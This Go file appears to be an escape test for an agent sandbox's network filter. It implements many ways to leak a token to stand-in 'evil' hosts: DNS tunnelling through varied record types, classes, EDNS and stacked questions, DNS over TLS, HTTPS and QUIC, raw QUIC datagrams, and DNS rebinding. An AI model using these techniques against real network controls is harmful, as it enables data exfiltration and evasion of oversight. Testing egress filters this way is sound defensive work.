//go:build linux && escape

package main

import (
	"crypto/tls"
	"encoding/base64"
	"encoding/binary"
	"io"
	"net"
	"net/http"
	"strconv"
	"strings"

	"github.com/miekg/dns"

	"github.com/agent-sessionizer/agent-sessionizer/test/escape/plan"
)

// names returns the techniques that carry the token in DNS questions.
func names() map[string]func(*attempt) {
	foreign := net.JoinHostPort(plan.Foreign, "53")
	real := net.JoinHostPort(plan.Resolver, "53")
	own := func(format func(token string) string, types ...uint16) func(*attempt) {
		return func(a *attempt) {
			for _, network := range []string{"udp", "tcp"} {
				for _, qtype := range types {
					a.ask(network, a.resolverAddr(), format(a.token), qtype)
				}
			}
		}
	}
	evil := func(token string) string { return token + ".t." + plan.EvilName }
	return map[string]func(*attempt){
		"dns-udp": func(a *attempt) { a.ask("udp", foreign, evil(a.token), dns.TypeA) },
		"dns-tcp": func(a *attempt) { a.ask("tcp", foreign, evil(a.token), dns.TypeA) },
		"dns-real": func(a *attempt) {
			a.ask("udp", real, evil(a.token), dns.TypeA)
			a.ask("tcp", real, evil(a.token), dns.TypeA)
		},
		"dns-dot":      dot,
		"dns-doh":      doh,
		"dns-doq":      func(a *attempt) { a.quic(plan.Foreign, 853) },
		"dns-stock":    func(a *attempt) { a.asNeighbourDNS(evil(a.token)) },
		"quic":         func(a *attempt) { a.quic(plan.Evil, 443) },
		"quic-allowed": quicAllowed,
		"tunnel-a":     own(evil, dns.TypeA),
		"tunnel-txt":   own(evil, dns.TypeTXT),
		"tunnel-null":  own(evil, dns.TypeNULL, 65399),
		"tunnel-case": func(a *attempt) {
			a.ask("udp", a.resolverAddr(), plan.CasedName(a.token), dns.TypeA)
			a.send(plan.CasedName(a.token), 80, "GET / HTTP/1.1\r\nHost: "+plan.Allowed+"\r\n\r\n")
		},
		"tunnel-long": own(func(token string) string {
			long := strings.Repeat("x", 63)
			return long + "." + long + "." + token + strings.Repeat("y", 40) + "." + plan.EvilName
		}, dns.TypeA, dns.TypeTXT),
		"tunnel-under":  own(func(token string) string { return token + "." + plan.Allowed }, dns.TypeA, dns.TypeTXT),
		"tunnel-suffix": own(func(token string) string { return plan.Allowed + "." + token + "." + plan.EvilName }, dns.TypeA),
		"tunnel-bytes":  tunnelBytes,
		"tunnel-types":  tunnelTypes,
		"tunnel-wild": own(func(token string) string { return token + "." + plan.WildZone }, dns.TypeTXT, dns.TypeNULL, dns.TypeMX,
			dns.TypeA, dns.TypeAAAA),
		"tunnel-edns":  tunnelEDNS,
		"tunnel-class": tunnelClass,
		"tunnel-two":   tunnelTwo,
		"tunnel-ptr":   tunnelPTR,
	}
}

func (a *attempt) asNeighbourDNS(name string) {
	for _, server := range []string{plan.StockDNS, plan.Gateway} {
		a.ask("udp", net.JoinHostPort(server, "53"), name, dns.TypeA)
		a.ask("tcp", net.JoinHostPort(server, "53"), name, dns.TypeTXT)
	}
}

// dot sends DNS over TLS to a foreign resolver.
func dot(a *attempt) {
	c, err := tls.DialWithDialer(&net.Dialer{Timeout: connectTime}, "tcp", net.JoinHostPort(plan.Foreign, "853"), &tls.Config{InsecureSkipVerify: true, ServerName: "dns.example.net"}) //nolint:gosec // the pretend internet signs its own certificates
	if err != nil {
		say("dot: %v", err)
		return
	}
	defer c.Close()
	q := new(dns.Msg)
	q.SetQuestion(dns.Fqdn(a.token+".t."+plan.EvilName), dns.TypeA)
	m, err := q.Pack()
	if err == nil {
		_, err = c.Write(append(binary.BigEndian.AppendUint16(nil, uint16(len(m))), m...))
	}
	say("dot: %s %v", answer(c), err)
}

// doh asks the same over HTTPS, by address and on a CDN's shared address.
func doh(a *attempt) {
	q := new(dns.Msg)
	q.SetQuestion(dns.Fqdn(a.token+".t."+plan.EvilName), dns.TypeA)
	m, err := q.Pack()
	if err != nil {
		say("doh: %v", err)
		return
	}
	path := "/dns-query?dns=" + base64.RawURLEncoding.EncodeToString(m) + "&t=" + a.token
	for _, addr := range []string{plan.Foreign, plan.CDN} {
		a.httpsPath(addr, 443, "dns.example.net", "dns.example.net", path)
	}
}

// quic sends a datagram that begins like a QUIC Initial, with the token in it.
func (a *attempt) quic(addr string, port int) {
	initial := append([]byte{0xc3, 0, 0, 0, 1, 8, 1, 2, 3, 4, 5, 6, 7, 8, 0, 0, 0x44, 0x9e}, a.token...)
	initial = append(initial, make([]byte, 1200-len(initial))...)
	c, err := net.Dial("udp", net.JoinHostPort(addr, strconv.Itoa(port)))
	if err != nil {
		say("quic: %v", err)
		return
	}
	defer c.Close()
	for range 3 {
		_, err := c.Write(initial)
		say("quic %s:%d: %v %s", addr, port, err, answer(c))
	}
}

func quicAllowed(a *attempt) {
	for _, addr := range a.resolve(plan.Allowed) {
		a.quic(addr.String(), 443)
	}
}

// tunnelBytes puts the token behind bytes that no host name contains.
func tunnelBytes(a *attempt) {
	for _, name := range []string{
		`\000` + a.token + "." + plan.EvilName,
		plan.Allowed[:7] + `\.` + a.token + "." + plan.EvilName,
		a.token + `\046` + plan.Allowed,
		`*.` + a.token + "." + plan.Allowed,
		a.token + `\032.` + plan.WildZone,
	} {
		a.ask("udp", a.resolverAddr(), name, dns.TypeA)
		a.ask("udp", a.resolverAddr(), name, dns.TypeTXT)
	}
}

// tunnelTypes carries 16 bits in the question type for an allowed name.
func tunnelTypes(a *attempt) {
	for _, qtype := range []uint16{dns.TypeTXT, dns.TypeMX, dns.TypeSRV, dns.TypeANY, dns.TypeHTTPS, dns.TypeNS, dns.TypeCNAME, dns.TypeSOA, 65280, 65281} {
		a.ask("udp", a.resolverAddr(), plan.Allowed, qtype)
	}
	q := new(dns.Msg)
	q.SetQuestion(dns.Fqdn(plan.Allowed), dns.TypeTXT)
	q.Extra = append(q.Extra, &dns.TXT{Hdr: dns.RR_Header{Name: dns.Fqdn(a.token), Rrtype: dns.TypeTXT, Class: dns.ClassINET}, Txt: []string{a.token}})
	a.exchange("udp", a.resolverAddr(), q)
}

// tunnelEDNS carries the token next to an allowed question.
func tunnelEDNS(a *attempt) {
	q := new(dns.Msg)
	q.SetQuestion(dns.Fqdn(plan.Allowed), dns.TypeA)
	q.SetEdns0(4096, true)
	opt := q.IsEdns0()
	opt.Option = append(opt.Option, &dns.EDNS0_LOCAL{Code: 65001, Data: []byte(a.token)}, &dns.EDNS0_COOKIE{Code: dns.EDNS0COOKIE, Cookie: "0102030405060708"})
	a.exchange("udp", a.resolverAddr(), q)
	a.exchange("tcp", a.resolverAddr(), q)
}

// tunnelClass sends unusual messages: another class, an update, a notify.
func tunnelClass(a *attempt) {
	q := new(dns.Msg)
	q.SetQuestion(dns.Fqdn(a.token+"."+plan.EvilName), dns.TypeTXT)
	q.Question[0].Qclass = dns.ClassCHAOS
	a.exchange("udp", a.resolverAddr(), q)
	u := new(dns.Msg)
	u.SetUpdate(dns.Fqdn(plan.Allowed))
	u.Insert([]dns.RR{&dns.TXT{Hdr: dns.RR_Header{Name: dns.Fqdn(a.token + "." + plan.Allowed), Rrtype: dns.TypeTXT, Class: dns.ClassINET}, Txt: []string{a.token}}})
	a.exchange("udp", a.resolverAddr(), u)
	n := new(dns.Msg)
	n.SetNotify(dns.Fqdn(a.token + "." + plan.EvilName))
	a.exchange("udp", a.resolverAddr(), n)
}

// tunnelTwo hides a denied question behind an allowed one in one message.
func tunnelTwo(a *attempt) {
	q := new(dns.Msg)
	q.SetQuestion(dns.Fqdn(plan.Allowed), dns.TypeA)
	q.Question = append(q.Question, dns.Question{Name: dns.Fqdn(a.token + "." + plan.EvilName), Qtype: dns.TypeA, Qclass: dns.ClassINET})
	a.exchange("udp", a.resolverAddr(), q)
	a.exchange("tcp", a.resolverAddr(), q)
}

// tunnelPTR asks for the names of addresses; the token is in a label before them.
func tunnelPTR(a *attempt) {
	for _, zone := range []string{"10.in-addr.arpa", "ip6.arpa", "18.198.in-addr.arpa", "local", "internal"} {
		a.ask("udp", a.resolverAddr(), a.token+"."+zone, dns.TypePTR)
	}
}

// rebinding returns the techniques with allowed names that resolve to forbidden addresses.
func rebinding() map[string]func(*attempt) {
	all := map[string]func(*attempt){
		"rebind-mixed": func(a *attempt) {
			// Try each address of the answer, as a browser would when one fails.
			for _, addr := range a.resolve("mixed.example.com") {
				a.send(addr.String(), 80, a.get("mixed.example.com"))
			}
		},
		"rebind-flip": func(a *attempt) {
			for i := range 6 {
				name := a.token + strconv.Itoa(i) + "." + plan.FlipZone
				a.resolve(name) // the first lookup, as for a check
				a.send(name, 80, a.get(name))
			}
		},
		"rebind-chain": func(a *attempt) {
			a.send("chain-lan.example.com", 80, a.get("chain-lan.example.com"))
			a.httpsPath("chain-lan.example.com", 443, "chain-lan.example.com", "chain-lan.example.com", "/"+a.token)
		},
		"rebind-target": func(a *attempt) { // the target of an allowed alias, requested directly
			for _, name := range []string{"edge.cdn.example.net", plan.EvilName} {
				a.send(name, 80, a.get(name))
			}
		},
	}
	for _, r := range plan.Rebinds {
		all["rebind-"+r.Label] = func(a *attempt) {
			a.send(r.Name(), 80, a.get(r.Name()))
			a.send(r.Name(), 443, a.token)
		}
	}
	return all
}

// httpsPath makes one HTTPS request with any server name and Host.
func (a *attempt) httpsPath(name string, port int, sni, host, path string) {
	c, err := a.tlsClient(name, port, &tls.Config{ServerName: sni})
	if err != nil {
		say("https %s sni=%s: %v", name, sni, err)
		return
	}
	defer c.Close()
	a.overTLS(c, host, path)
}

func (a *attempt) https(name string, port int, sni, host string) {
	a.httpsPath(name, port, sni, host, "/"+a.token)
}

func (a *attempt) overTLS(c net.Conn, host, path string) {
	_, err := io.WriteString(c, "GET "+path+" HTTP/1.1\r\nHost: "+host+"\r\n\r\n")
	say("https host=%s: %s %v", host, answer(c), err)
}

// fetch requests a URL as an ordinary client, which follows redirects.
func (a *attempt) fetch(url string) {
	c := http.Client{
		Timeout: connectTime,
		Transport: &http.Transport{DisableKeepAlives: true, Dial: func(_, addr string) (net.Conn, error) { //nolint:staticcheck // there is no context to pass on
			host, port, err := net.SplitHostPort(addr)
			if err != nil {
				return nil, err
			}
			p, err := strconv.Atoi(port)
			if err != nil {
				return nil, err
			}
			return a.connect(host, p)
		}},
	}
	resp, err := c.Get(url)
	if err != nil {
		say("fetch: %v", err)
		return
	}
	defer resp.Body.Close()
	body, err := io.ReadAll(io.LimitReader(resp.Body, 4096))
	say("fetch: %s %q %v", resp.Status, body, err)
}
